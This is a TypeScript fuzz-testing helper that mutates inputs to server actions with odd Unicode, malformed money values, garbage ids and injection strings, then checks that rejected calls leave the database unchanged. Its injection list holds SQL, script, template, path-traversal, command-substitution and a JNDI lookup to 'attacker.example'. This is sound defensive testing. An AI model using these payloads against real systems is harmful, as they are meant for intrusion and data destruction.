// How the bad-input test mutates a valid input (odd Unicode, injections, bad money, garbage ids,
// anything a server action can receive), and the check each mutated call must pass: success only
// on input its schema accepts, else a DomainError that changed nothing.
import fc from "fast-check";
import { expect } from "vitest";
import { segs, setAt, stringLeaves } from "@/test-support/fuzz";
import { DomainError } from "../errors";
import type { Op, Prepared } from "./kit";

export const ODD = [
  "\uD800",
  "a\uDC00",
  "\u202Eevil\u202C",
  "\u200F\u200E",
  "\u0000",
  "a\u0000b",
  "😀👩‍👩‍👧‍👦",
  "e\u0301\u0302\u0303",
  "\uFEFF",
  "\u2028",
  "\uFFFF",
  "\u{10FFFF}",
];
export const INJECTIONS = [
  `'; DROP TABLE "UseCase"; --`,
  "<script>alert(1)</script>",
  "{{7*7}}",
  "../../etc/passwd",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection payload, literally
  "${jndi:ldap://attacker.example/a}",
  "$(id)",
];
export const MONEY = [
  "1e400",
  "-0.001",
  "12345678901234567.89",
  "0x10",
  " 1 ",
  "NaN",
  "Infinity",
  "-0",
  "1,000",
  "１２",
  "9999999999999.99",
  "10000000000000",
  "",
];
export const GARBAGE_IDS = [
  "",
  " ",
  "UC-0",
  "UC-1000000000",
  "UC-99999999999",
  "x".repeat(10_000),
  "\u0000",
  "%00",
  "../x",
  "😀",
  "\uD800",
];

/**
 * Whatever a server action can receive: React's action arguments carry JSON values and also
 * Dates, Maps, Sets, BigInts and typed arrays (never null-prototype or boxed objects, nor holes).
 */
const anything = fc.anything({
  maxDepth: 3,
  withBigInt: true,
  withDate: true,
  withMap: true,
  withSet: true,
  withTypedArray: true,
  withObjectString: true,
  stringUnit: "binary",
});
export const odd = fc.oneof(fc.constantFrom(...ODD, ...INJECTIONS), fc.string({ unit: "binary", maxLength: 30 }));
const huge = fc
  .record({ size: fc.integer({ min: 100_000, max: 200_000 }), unit: fc.constantFrom("x", "😀", "\u0000", "\uD800") })
  .map(({ size, unit }) => unit.repeat(size / unit.length));

export type Mutation =
  | { k: "whole"; value: unknown }
  | { k: "field"; at: number; value: unknown }
  | { k: "text"; at: number; value: string }
  | { k: "extra"; key: string; value: unknown }
  | { k: "money"; at: number; value: unknown }
  | { k: "id"; value: string };

export const describeValue = (value: unknown, max = 200) => {
  let s: string;
  try {
    s = JSON.stringify(value, (_k, v) => (typeof v === "bigint" ? `${v}n` : v)) ?? String(value);
  } catch {
    s = String(value);
  }
  return s.length > max ? `${s.slice(0, max)}…(${s.length})` : s;
};

export function mutations(op: Op, hasId: boolean): fc.Arbitrary<Mutation> {
  const nat = fc.nat({ max: 1000 });
  const arbs: fc.Arbitrary<Mutation>[] = [];
  if (op.schema) {
    arbs.push(
      anything.map((value) => ({ k: "whole", value }) as Mutation),
      fc.record({ at: nat, value: anything }).map((r) => ({ k: "field", ...r }) as Mutation),
      fc.record({ at: nat, value: fc.oneof(odd, huge) }).map((r) => ({ k: "text", ...r }) as Mutation),
      fc
        .record({
          key: fc.oneof(fc.constantFrom("__proto__", "constructor", "id", "stage", "role", "version2"), fc.string()),
          value: anything,
        })
        .map((r) => ({ k: "extra", ...r }) as Mutation),
    );
  }
  if (op.money?.length)
    arbs.push(
      fc
        .record({
          at: nat,
          value: fc.oneof(fc.constantFrom(...MONEY), fc.double(), fc.bigInt(), fc.double().map(String)),
        })
        .map((r) => ({ k: "money", ...r }) as Mutation),
    );
  if (hasId)
    arbs.push(
      fc
        .oneof(fc.constantFrom(...GARBAGE_IDS, ...INJECTIONS, ...ODD), fc.string({ unit: "binary", maxLength: 40 }))
        .map((value) => ({ k: "id", value }) as Mutation),
    );
  if (arbs.length === 0) throw new Error("nothing to fuzz");
  return fc.oneof(...arbs);
}

function apply(
  op: Op,
  prepared: Prepared,
  valid: unknown,
  m: Mutation,
): { input: unknown; id: string; realId: boolean } {
  const leaves = prepared.textPaths?.map(segs) ?? stringLeaves(valid);
  const keys = [...new Set([...leaves.map((l) => l.join(".")), ...Object.keys(valid ?? {})])].map(segs);
  const base = { id: prepared.id, realId: true };
  switch (m.k) {
    case "whole":
      return { ...base, input: m.value };
    case "field":
      return { ...base, input: setAt(valid, keys[m.at % Math.max(keys.length, 1)] ?? ["x"], m.value) };
    case "text":
      return { ...base, input: setAt(valid, leaves[m.at % Math.max(leaves.length, 1)] ?? ["x"], m.value) };
    case "extra": {
      const input = { ...(valid as object) } as Record<string, unknown>;
      const key = m.key in input ? `x_${m.key}` : m.key;
      Object.defineProperty(input, key, { value: m.value, enumerable: true, configurable: true, writable: true });
      return { ...base, input };
    }
    case "money": {
      const money = (op.money ?? []).map(segs);
      return { ...base, input: setAt(valid, money[m.at % money.length] ?? ["x"], m.value) };
    }
    case "id": {
      const id = m.value === prepared.id || /^\s*UC-\d{1,9}\s*$/i.test(m.value) ? `${m.value}x` : m.value;
      return { input: valid, id, realId: false };
    }
  }
}

export async function check(name: string, op: Op, prepared: Prepared, m: Mutation): Promise<void> {
  const valid = await prepared.valid();
  let { input, id, realId } = apply(op, prepared, valid, m);
  const accepted = () => realId && (!op.schema || op.schema.safeParse(input).success);
  if (prepared.neutralise && accepted() && input && typeof input === "object")
    input = await prepared.neutralise(input as Record<string, unknown>);
  const before = await prepared.snapshot();
  let error: unknown;
  try {
    await prepared.call(input, id);
  } catch (e) {
    error = e;
  }
  const what = `${name}(${describeValue(id)}, ${describeValue(input)}) [${m.k}]`;
  if (error === undefined) {
    if (!accepted()) throw new Error(`${what} succeeded on input its schema refuses`);
    return;
  }
  if (!(error instanceof DomainError)) {
    const e = error as Error;
    throw new Error(
      `${what} threw ${e?.constructor?.name ?? typeof e}, not a DomainError: ${String(e?.message).slice(0, 400)}`,
    );
  }
  const after = await prepared.snapshot();
  try {
    expect(after).toEqual(before);
  } catch (e) {
    throw new Error(`${what} was refused (${error.code}) but changed the database: ${(e as Error).message}`);
  }
}
